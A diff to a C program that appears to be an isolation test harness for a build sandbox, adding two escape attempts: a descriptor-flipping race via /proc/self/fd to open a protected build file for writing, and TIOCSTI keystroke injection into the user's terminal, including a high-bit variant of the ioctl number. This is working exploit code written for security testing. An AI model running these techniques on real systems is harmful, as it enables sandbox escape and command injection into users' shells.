@@ -447,6 +447,54 @@ static void race(void *(*flip)(void *), const char *path, int turns) {
     pthread_join(thread, 0);
 }
 
+static int ours, theirs, number;
+
+static void *flip_number(void *unused) {
+    for (unsigned i = 0; !stop; i++) dup2(i & 1 ? ours : theirs, number);
+    return unused;
+}
+
+/* A descriptor that is one's own when it is judged, and one of the builder's file when it is opened. */
+static void by_reopening(void) {
+    attack = "reopening";
+    theirs = open("/ctx/file", O_RDONLY);
+    if (theirs < 0) return;
+    mkfifo("/tmp/fifo", 0666);
+    int kinds[2] = {open("/tmp/own", O_RDWR | O_CREAT, 0666), open("/tmp/fifo", O_RDWR)};
+    for (int k = 0; k < 2; k++) {
+        ours = kinds[k];
+        number = dup(ours);
+        char path[64];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", number);
+        pthread_t thread;
+        stop = 0;
+        if (pthread_create(&thread, 0, flip_number, 0)) return;
+        struct stat wanted, found;
+        fstat(theirs, &wanted);
+        for (int i = 0; i < 2000; i++) {
+            tried++;
+            int fd = open(path, O_WRONLY | O_NONBLOCK);
+            if (fd >= 0 && fstat(fd, &found) == 0 && found.st_ino == wanted.st_ino && found.st_dev == wanted.st_dev)
+                say("DID", "opened to be written");
+            if (fd >= 0) close(fd);
+            struct timespec times[2] = {{1, 0}, {1, 0}};
+            if (i % 8 == 0) truncate(path, 0), fchmod(number, 0600), futimens(number, times);
+        }
+        stop = 1;
+        pthread_join(thread, 0);
+    }
+    unlink("/tmp/fifo");
+}
+
+/* What the user's shell is going to read. */
+static void by_terminal(void) {
+    attack = "terminal";
+    for (long high = 0; high < 2; high++) {
+        tried++;
+        if (syscall(SYS_ioctl, 0L, 0x5412L | high << 32 /* TIOCSTI */, "x") == 0) say("DID", "typed");
+    }
+}
+
 static void by_race(void) {
     attack = "race";
     if (!target_count) return;
@@ -566,7 +614,13 @@ static int split(const char *name, char **into) {
     return count;
 }
 
-int main(void) {
+int main(int argc, char **argv) {
+    (void)argv;
+    if (argc > 1) {
+        by_terminal();
+        printf("tried %d\n", tried);
+        return 0;
+    }
     target_count = split("TARGETS", targets);
     victim_count = split("VICTIMS", victims);
     /* Whoever runs the step. */
@@ -575,7 +629,7 @@ int main(void) {
     by_descriptor();
     await(getenv("READY"));
     void (*attacks[])(void) = {by_path, by_link, by_process, by_owner, by_chroot, by_message, by_mount, by_namespace,
-                               by_handle, by_race, by_socket, by_core, by_search};
+                               by_handle, by_race, by_reopening, by_terminal, by_socket, by_core, by_search};
     for (unsigned i = 0; i < sizeof attacks / sizeof *attacks; i++) apart(attacks[i]);
     if (getenv("DONE")) close(open(getenv("DONE"), O_CREAT | O_WRONLY, 0644));
     printf("all of %d kinds tried, %d by the program itself\n", (int)(sizeof attacks / sizeof *attacks) + 1, tried);
